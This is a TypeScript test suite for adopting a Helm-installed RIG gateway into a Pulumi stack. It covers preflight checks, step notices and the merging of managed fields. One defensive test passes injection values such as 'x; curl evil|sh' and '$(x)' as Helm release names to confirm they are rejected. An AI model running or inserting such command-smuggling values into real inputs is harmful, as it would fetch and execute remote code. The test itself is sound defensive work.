import assert from "node:assert/strict";
import { findAdoptedObjects } from "../../../adoption/adoptedObjects";
import { stepNotice } from "../../../adoption/stepNotice";
import { fieldsOfProvider } from "../../../adoption/importMarks";
import { preflight } from "../../../preflight";
import type { ClusterReader, FoundObject, Lookup } from "../../../kubernetes/reader";
import type { GatewayArgs } from "../../../components";
import { instanceLabel, objectNames } from "../../../components/model/names";
import { problemLines } from "../problemLines";

const full = "rig-reactive-interaction-gateway";
const own = instanceLabel({ project: "rig", stack: "dev", name: "rig" });
const selector = { app: "rig" };
const env = [
    { name: "INBOUND_PORT", value: "4000" },
    { name: "NODE_COOKIE", value: "magiccookie" },
    { name: "PROMETHEUS_ENABLED", value: "true" },
    { name: "KAFKA_BROKERS", value: "s3cr3t:9092" },
    { name: "API_HOST", value: "s3cr3t" },
];
const deployment: FoundObject = {
    labels: {},
    data: {},
    spec: {
        replicas: 2,
        template: { metadata: { labels: { ...selector, more: "yes" } }, spec: { containers: [{ env }] } },
    },
    status: { availableReplicas: 2 },
};
const servicePorts = [4000, 4001, 4010, 4011].map((port) => ({ port }));
const service: FoundObject = {
    labels: {},
    data: {},
    spec: { type: "ClusterIP", clusterIP: "10.0.0.1", selector, ports: servicePorts, sessionAffinity: "None" },
};
const headless: FoundObject = { ...service, spec: { ...service.spec, clusterIP: "None" } };
const existing = {
    [`Deployment/${full}`]: deployment,
    [`Service/${full}`]: service,
    [`Service/${full}-headless`]: headless,
};

const adopted = (found: FoundObject): FoundObject => ({ ...found, labels: { "app.kubernetes.io/instance": own } });
const imported = (found: FoundObject, by = own): FoundObject => ({ ...found, labels: { "rig-adopted-by": by } });
const all = (change: (found: FoundObject) => FoundObject) =>
    Object.fromEntries(Object.entries(existing).map(([key, found]) => [key, change(found)]));
const withSpec = (found: FoundObject, spec: object): FoundObject => ({ ...found, spec: { ...found.spec, ...spec } });

/** A cluster with these objects, by `Kind/name`, and records of the Helm release `mine` or not. */
function cluster(found: Record<string, Lookup>, records: "none" | "some" | "forbidden" = "none"): ClusterReader {
    const namespace = { "Namespace/rig-dev": { labels: {}, data: {} } };
    const objects: Record<string, Lookup> = { ...namespace, ...found };
    return {
        minorVersion: 36,
        find: ({ kind, name }) => Promise.resolve(objects[`${kind}/${name}`] ?? "absent"),
        findAll: ({ kind }, labels) => {
            if (kind === "Secret") {
                const record = { name: "r", labels: { version: "1", status: "failed" }, data: {} };
                return Promise.resolve(
                    records === "forbidden"
                        ? records
                        : records === "some" && labels === "owner=helm,name=mine"
                          ? [record]
                          : [],
                );
            }
            const names = Object.keys(objects).filter((key) => key.startsWith(`${kind}/`));
            return Promise.resolve(names.map((key) => ({ name: key.slice(kind.length + 1), labels: {}, data: {} })));
        },
    };
}

async function desired(reader: ClusterReader, args: Omit<GatewayArgs, "namespace">) {
    const gateway = { createNamespace: false, ...args };
    const adopted = await findAdoptedObjects(reader, "rig-dev", objectNames("rig", args.objectNames));
    return { project: "rig", stack: "dev", namespace: "rig-dev", gateway, adopted };
}

async function problems(reader: ClusterReader, args: Omit<GatewayArgs, "namespace">): Promise<string[]> {
    try {
        const expected = await desired(reader, args);
        await preflight(reader, expected, expected.adopted);
    } catch (error) {
        return problemLines(error);
    }
    return [];
}

async function notice(
    found: Record<string, Lookup>,
    args: Omit<GatewayArgs, "namespace">,
    records: "some" | "forbidden" = "some",
): Promise<string> {
    const reader = cluster(found, records);
    const expected = await desired(reader, args);
    return stepNotice(expected, expected.adopted).join("\n");
}

describe("the step import of an adoption", () => {
    const step = { adopt: "import" } as const;

    it("takes what belongs together and is ready, also when it is imported already", async () => {
        assert.deepEqual(await problems(cluster(existing), step), []);
        assert.deepEqual(await problems(cluster(all(imported)), step), []);
    });

    it("is refused halfway through the next step", async () => {
        const half = { ...all(adopted), [`Deployment/${full}`]: "absent" } as const;
        const [message] = await problems(cluster(half), step);
        assert.match(
            String(message),
            /^Deployment .*: it was deleted after its import, and step replace makes it anew\. Set adopt to replace/,
        );
    });

    it("refuses what isn't there, and names what is", async () => {
        const found = await problems(cluster(existing), {
            ...step,
            objectNames: { service: "edge", deployment: "edge" },
        });
        assert.deepEqual(found, [
            `Deployment rig-dev/edge: it doesn't exist, and adopt needs it. Namespace rig-dev has: ${full}. Set its name with objectNames.deployment or name, and its namespace with namespace.`,
            `Service rig-dev/edge: it doesn't exist, and adopt needs it. Namespace rig-dev has: ${full}, ${full}-headless. Set its name with objectNames.service or name, and its namespace with namespace.`,
        ]);
    });

    for (const [what, found, expected] of [
        [
            "is this gateway's",
            adopted(service),
            /it is this gateway's already\. If the adoption isn't finished, set adopt to replace/,
        ],
        ["is another stack's", imported(service, "theirs"), /it belongs to theirs, another stack of Pulumi's/],
        [
            "was made by another stack",
            {
                ...service,
                labels: { "app.kubernetes.io/managed-by": "Pulumi", "app.kubernetes.io/instance": "theirs" },
            },
            /it belongs to theirs, another stack/,
        ],
        ["can't be seen", "forbidden", /may not read it.* Whether it can be adopted can't be checked/],
        [
            "selects other pods",
            withSpec(service, { selector: { app: "x" } }),
            /doesn't select the pods of the Deployment/,
        ],
        ["selects nothing", withSpec(service, { selector: undefined }), /doesn't select the pods of the Deployment/],
        ["is headless", headless, /it is headless .* can't be the public Service/],
        [
            "has another port",
            withSpec(service, { ports: [{ port: 80 }] }),
            /has no port 4000, .* It has: 80\. .*"port":4000,"targetPort":4000\}/,
        ],
        [
            "has another type",
            withSpec(service, { type: "NodePort" }),
            /type NodePort, and serviceType is ClusterIP: .* Set serviceType to NodePort/,
        ],
        [
            "has what would be lost",
            withSpec(service, { sessionAffinity: "ClientIP", loadBalancerIP: "192.0.2.1" }),
            /has loadBalancerIP, sessionAffinity, which/,
        ],
    ] as const) {
        it(`refuses a public Service that ${what}`, async () => {
            const [message, ...others] = await problems(cluster({ ...existing, [`Service/${full}`]: found }), step);
            assert.match(String(message), expected);
            assert.ok(message?.startsWith(`Service rig-dev/${full}: `));
            assert.deepEqual(others, []);
        });
    }

    it("refuses a load balancer without an address, a headless Service that isn't one, and pods that aren't ready", async () => {
        const balanced = withSpec(service, { type: "LoadBalancer" });
        const at = {
            [`Service/${full}`]: { ...balanced, status: { loadBalancer: { ingress: [{ ip: "192.0.2.1" }] } } },
        };
        const args = { ...step, serviceType: "LoadBalancer" } as const;
        assert.deepEqual(await problems(cluster({ ...existing, ...at }), args), []);
        const waiting = cluster({ ...existing, [`Service/${full}`]: balanced });
        assert.match(String(await problems(waiting, args)), /no address of a load balancer yet/);
        const open = cluster({ ...existing, [`Service/${full}-headless`]: service });
        assert.match(String(await problems(open, step)), /-headless: it isn't headless/);
        const down = cluster({
            ...existing,
            [`Deployment/${full}`]: { ...deployment, status: { availableReplicas: 1 } },
        });
        assert.match(String(await problems(down, step)), /1 of its 2 pods are available/);
    });

    it("says what it does, what would be lost, and what comes next; no value of a variable", async () => {
        const settings = { settings: { KAFKA_BROKERS: "k:9092" } };
        const released = all((found) => ({
            ...found,
            annotations: { "meta.helm.sh/release-name": "mine", "example.com/balancer": "internal" },
        }));
        const text = await notice(released, { ...step, ...settings });
        assert.match(
            text,
            /^Adoption, step import: Deployment rig-dev\/.*, Service .* and Service .* come under this stack/,
        );
        assert.match(text, /Step replace removes the ports 4001, 4010, 4011 from the public Service\./);
        assert.match(text, /the annotations example\.com\/balancer from the public Service/);
        const kept = { serviceAnnotations: { "example.com/balancer": "internal" } };
        assert.doesNotMatch(await notice(released, { ...step, ...settings, ...kept }), /annotations .* public/);
        assert.match(text, /The old pods have variables that are set nowhere here: API_HOST\.$/m);
        assert.match(text, /Don't uninstall it.* kubectl delete secret -n rig-dev -l owner=helm,name=mine/);
        assert.match(
            text,
            /Next: pulumi config set rig:adopt replace, and pulumi up\. With that, THE GATEWAY IS INTERRUPTED/,
        );
        assert.match(await notice(existing, step), /nowhere here: KAFKA_BROKERS, API_HOST\.$/m);
        assert.ok(!text.includes("s3cr3t"));
    });

    it("names a variable unless its value means RIG's default, however that is written", async () => {
        const variables = (values: Readonly<Record<string, string>>) => ({
            ...existing,
            [`Deployment/${full}`]: withSpec(deployment, {
                template: {
                    spec: {
                        containers: [{ env: Object.entries(values).map(([name, value]) => ({ name, value })) }],
                    },
                },
            }),
        });
        const defaults = { LOG_LEVEL: "WARN", MAX_CONNECTIONS_PER_MINUTE: "+5000", KAFKA_SSL_ENABLED: "no" };
        assert.doesNotMatch(await notice(variables(defaults), step), /nowhere here/);
        // In the catalogue, these are remarks.
        const remarks = { JWT_SECRET_KEY: "none", KINESIS_ENDPOINT: "AWS's own" };
        assert.match(await notice(variables(remarks), step), /nowhere here: JWT_SECRET_KEY, KINESIS_ENDPOINT\.$/m);
    });

    it("says what the pods have otherwise, and what they have no longer; of what stays the same nothing", async () => {
        const container = {
            name: "rig",
            image: "accenture/reactive-interaction-gateway:3.0.0",
            imagePullPolicy: "IfNotPresent",
            resources: { requests: { cpu: "0.25", memory: "256Mi" }, limits: { memory: "512Mi" } },
            ports: [{ containerPort: 4000 }],
        };
        const pods = (spec: object) => ({
            ...existing,
            [`Deployment/${full}`]: withSpec(deployment, { template: { spec: { containers: [container], ...spec } } }),
        });
        const same = await notice(pods({ restartPolicy: "Always", nodeSelector: {} }), step);
        assert.doesNotMatch(same, /Step replace changes|Step replace removes from the pods/);
        const more = pods({
            containers: [
                { ...container, image: "rig:2", envFrom: [{ secretRef: { name: "broker" } }] },
                { name: "proxy", env: [{ name: "TOKEN", value: "s3cr3t" }] },
            ],
            nodeSelector: { pool: "edge" },
            hostNetwork: true,
            volumes: [{ name: "cache" }],
        });
        const text = await notice(more, { ...step, replicas: 3 });
        assert.match(
            text,
            /^Step replace changes what these keys configure: replicas from 2 to 3; image from rig:2 to /m,
        );
        assert.match(text, /nodeSelector from \{.*\} to none/);
        assert.match(
            text,
            /^Step replace removes from the pods: containers proxy; volumes cache; all variables of Secret broker; hostNetwork true\.$/m,
        );
        assert.ok(!text.includes("s3cr3t"));
        assert.doesNotMatch(await notice(more, { ...step, nodeSelector: { pool: "edge" } }), /nodeSelector/);
    });

    it("refuses to give up a gateway that the stack has already", async () => {
        const reader = cluster(existing);
        const others = [
            { name: "rig-other", namespace: "elsewhere", labels: { "app.kubernetes.io/instance": own }, data: {} },
            { name: "theirs", namespace: "elsewhere", labels: { "app.kubernetes.io/instance": "x-dev-00" }, data: {} },
        ];
        const findAll: ClusterReader["findAll"] = (kind, labels) =>
            kind.kind === "Deployment" && kind.namespace === undefined
                ? Promise.resolve(others)
                : reader.findAll(kind, labels);
        const found = await problems({ ...reader, findAll }, step);
        assert.equal(found.length, 1);
        assert.match(String(found), /^Deployment elsewhere\/rig-other: it is this stack's gateway already, /);
    });
});

describe("the step replace of an adoption", () => {
    const step = { adopt: "replace" } as const;

    it("takes what is imported, and goes on where it was interrupted", async () => {
        assert.deepEqual(await problems(cluster(all(imported)), step), []);
        const half = {
            ...all(imported),
            [`Service/${full}-headless`]: adopted(headless),
            [`Deployment/${full}`]: "absent",
        } as const;
        assert.deepEqual(await problems(cluster(half), step), []);
        assert.deepEqual(await problems(cluster(all(adopted)), step), []);
    });

    it("refuses what isn't imported", async () => {
        const found = await problems(cluster(existing), step);
        assert.equal(found.length, 3);
        assert.ok(
            found.every((line) => line.includes("it isn't imported yet. First: pulumi config set rig:adopt import")),
        );
        const absent = await problems(cluster({ ...existing, [`Deployment/${full}`]: "absent" }), step);
        assert.match(absent.join(), /Deployment .*: it doesn't exist/);
    });

    it("refuses what Helm has changed since the import", async () => {
        const changedBy = (...managers: string[]) => {
            const managedFields = managers.map((manager) => ({ manager, fieldsV1: { "f:spec": {} } }));
            return cluster({ ...all(imported), [`Service/${full}`]: { ...imported(service), managedFields } });
        };
        assert.deepEqual(await problems(changedBy("pulumi-kubernetes", "kubectl-edit"), step), []);
        assert.equal((await problems(changedBy("helm-controller"), step)).length, 1);
        const [message, ...others] = await problems(changedBy("pulumi-kubernetes", "helm"), step);
        assert.match(
            String(message),
            /^Service .*: Helm has changed it since step import, .* Run step import once more/,
        );
        assert.deepEqual(others, []);
    });

    it("waits until Helm has forgotten the release", async () => {
        const released = all((found) => ({
            ...imported(found),
            annotations: { "meta.helm.sh/release-name": "mine" },
        }));
        assert.deepEqual(await problems(cluster(released, "some"), step), [
            "Helm release rig-dev/mine: Helm still has it, and could change or delete the adopted objects. First let Helm forget it, which leaves every object in the cluster: kubectl delete secret -n rig-dev -l owner=helm,name=mine",
        ]);
        assert.deepEqual(await problems(cluster(released, "none"), step), []);
        assert.deepEqual(await problems(cluster(released, "forbidden"), step), []);
    });

    it("says how to let Helm forget the release when its records can't be seen", async () => {
        const released = all((found) => ({
            ...imported(found),
            annotations: { "meta.helm.sh/release-name": "mine" },
        }));
        const text = await notice(released, step, "forbidden");
        assert.match(
            text,
            /Don't uninstall it: .* can't be seen: .* kubectl delete secret -n rig-dev -l owner=helm,name=mine/,
        );
        assert.doesNotMatch(await notice(all(imported), step, "forbidden"), /Helm/);
    });

    it("takes nothing for a release's name that Helm wouldn't", async () => {
        for (const name of ["x; curl evil|sh", "$(x)", "x\nRun: y", "X", "a..b", "-a", ""]) {
            const released = all((found) => ({
                ...imported(found),
                annotations: { "meta.helm.sh/release-name": name },
            }));
            assert.doesNotMatch(await notice(released, step, "forbidden"), /Helm|kubectl/, name);
        }
    });

    it("says what it interrupts, and afterwards that it is done", async () => {
        const patient = withSpec(imported(deployment), {
            template: { spec: { terminationGracePeriodSeconds: 45, containers: [] } },
        });
        const before = await notice({ ...all(imported), [`Deployment/${full}`]: patient }, step);
        assert.match(before, /^Adoption, step replace: THE GATEWAY IS INTERRUPTED: .* \(up to 45 s\)/);
        const after = await notice(all(adopted), step);
        assert.match(after, /^Adoption: .* nothing is left to adopt\. Next: pulumi config rm rig:adopt\.$/);
    });
});

describe("without a step of an adoption", () => {
    it("existing objects are refused, with a hint at it", async () => {
        const found = async (objects: Record<string, Lookup>) => {
            try {
                const gateway = { createNamespace: false };
                await preflight(cluster(objects), { project: "rig", stack: "dev", namespace: "rig-dev", gateway });
            } catch (error) {
                return error instanceof Error ? error.message : "";
            }
            return "";
        };
        assert.match(await found(existing), /Service .*, or bring it under this stack: docs\/adoption\.md\./);
        assert.match(await found(all(imported)), /its adoption isn't finished: set adopt to replace/);
        assert.equal(await found(all(adopted)), "");
    });
});

describe("the fields of a Service that is handed over", () => {
    const port = (number: number) => ({ [`k:{"port":${number},"protocol":"TCP"}`]: { ".": {}, "f:port": {} } });

    it("are the provider's, all that anyone has in the spec, in one entry", () => {
        const helm = {
            manager: "helm",
            operation: "Update",
            apiVersion: "v1",
            fieldsV1: { "f:metadata": { "f:labels": {} }, "f:spec": { "f:type": {}, "f:ports": port(4010) } },
        };
        const someone = {
            manager: "kubectl-edit",
            operation: "Update",
            apiVersion: "v1",
            fieldsV1: { "f:spec": { "f:ports": port(4000) } },
        };
        const status = {
            manager: "controller",
            operation: "Update",
            subresource: "status",
            fieldsV1: { "f:spec": {} },
        };
        const annotator = {
            manager: "controller",
            operation: "Update",
            fieldsV1: { "f:metadata": { "f:annotations": {} } },
        };
        const merged = {
            manager: "pulumi-kubernetes",
            operation: "Update",
            apiVersion: "v1",
            fieldsV1: {
                "f:metadata": { "f:labels": {} },
                "f:spec": { "f:type": {}, "f:ports": { ...port(4010), ...port(4000) } },
            },
        };
        assert.deepEqual(fieldsOfProvider([helm, status, someone, annotator]), [status, annotator, merged]);
        assert.deepEqual(fieldsOfProvider([merged]), [merged]);
        assert.deepEqual(fieldsOfProvider([status]), [status]);
    });
});
